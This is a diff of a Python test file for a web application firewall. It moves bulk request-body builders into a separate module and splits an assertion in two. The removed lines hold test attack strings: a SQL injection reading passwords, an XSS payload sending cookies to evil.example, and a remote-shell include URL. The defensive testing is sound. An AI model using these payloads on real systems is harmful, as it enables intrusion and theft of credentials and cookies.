@@ -8,9 +8,7 @@ without it pass, and a request the firewall cannot inspect in full is refused wi
 
 from __future__ import annotations
 
-import json
 from typing import Any
-from xml.sax.saxutils import escape
 
 import pytest
 
@@ -19,50 +17,11 @@ from bindery.security.waf import middleware
 from bindery.security.waf.engine import Firewall
 from bindery.security.waf.exclusions import Exclusion
 from tests.conftest import HttpsClient
+from tests.security.bulk_bodies import PAYLOADS, PRODUCTS, json_body, xml_body
 
 pytestmark = pytest.mark.django_db(databases="__all__")
-PRODUCTS = 10_000
 BULK = "/api/v1/products/bulk"
 XML_IMPORT = "/api/connectors/00000000-0000-0000-0000-000000000000/products"
-DESCRIPTION = ("<h2>Select Drop Earrings — Union Square</h2><p>By O'Brien &amp; Co., Via dell'Unione 1.</p>"
-               "<p><a href=\"https://shop.example/care\">Care</a> <img src=\"/m/e.jpg\" alt=\"e\"></p>"
-               "<ul><li>Select from 3 colours; drop 4 cm</li></ul>")
-PAYLOADS = {
-    "sqli": ("name", "Earrings' UNION SELECT password, email FROM accounts_user--"),
-    "xss": ("name", "Earrings <script>fetch('//evil.example/'+document.cookie)</script>"),
-    "rfi": ("manufacturer", "http://203.0.113.66/shell.txt?"),
-}
-
-
-def product(i: int) -> dict[str, Any]:
-    return {"sku": f"SKU-{i:05d}", "name": f"Select Drop Earrings — Union Square #{i}",
-            "description_html": f"{DESCRIPTION}<p>Item {i}</p>", "short_description": "O'Brien, Via dell'Unione 1",
-            "manufacturer": "D'Angelo & Sons", "ean": f"80{i:011d}",
-            "images": [{"url": f"https://cdn.example/img/{i}.jpg"}],
-            "prices": [{"price_list": "retail", "net": f"{i % 100}.50", "vat_rate": 22}]}
-
-
-def products(attack: str | None = None) -> list[dict[str, Any]]:
-    items = [product(i) for i in range(PRODUCTS)]
-    if attack:
-        field, payload = PAYLOADS[attack]
-        items[-1][field] = payload  # the last of 10,000: past every old limit
-    return items
-
-
-def json_body(attack: str | None = None) -> bytes:
-    return json.dumps({"items": products(attack)}).encode()
-
-
-def xml_body(attack: str | None = None) -> bytes:
-    names = {"sku": "Code", "name": "Title", "description_html": "DescriptionHtml",
-             "short_description": "ShortDescription", "manufacturer": "Brand", "ean": "Ean"}
-    rows = ["<Product>" + "".join(f"<{tag}>{escape(item[key])}</{tag}>" for key, tag in names.items())
-            + f"<Qty>{n % 50}</Qty></Product>" for n, item in enumerate(products(attack))]
-    return ('<?xml version="1.0" encoding="UTF-8"?><bindCommerceProducts Mode="full"><Products>'
-            + "".join(rows) + "</Products></bindCommerceProducts>").encode()
-
-
 def send(client: HttpsClient, path: str, body: bytes, content_type: str) -> Any:
     return client.post(path, body, content_type=content_type, REMOTE_ADDR="198.51.100.40")
 
@@ -174,7 +133,8 @@ def test_identical_values_are_matched_once_and_codes_are_skipped() -> None:
                          body, len(body))
     route = Exclusion(fields={"description_html": frozenset({"xss"})}, max_values=10**6)
     verdict = Firewall(paranoia=1, budget=60).inspect(request, route)
-    assert not verdict.uninspected and not verdict.blocked
+    assert not verdict.uninspected
+    assert not verdict.blocked
     assert verdict.values > 70_000
     # name, description, image URL per product are distinct; the rest repeats or is a bare code
     assert verdict.inspected < 3 * PRODUCTS + 50
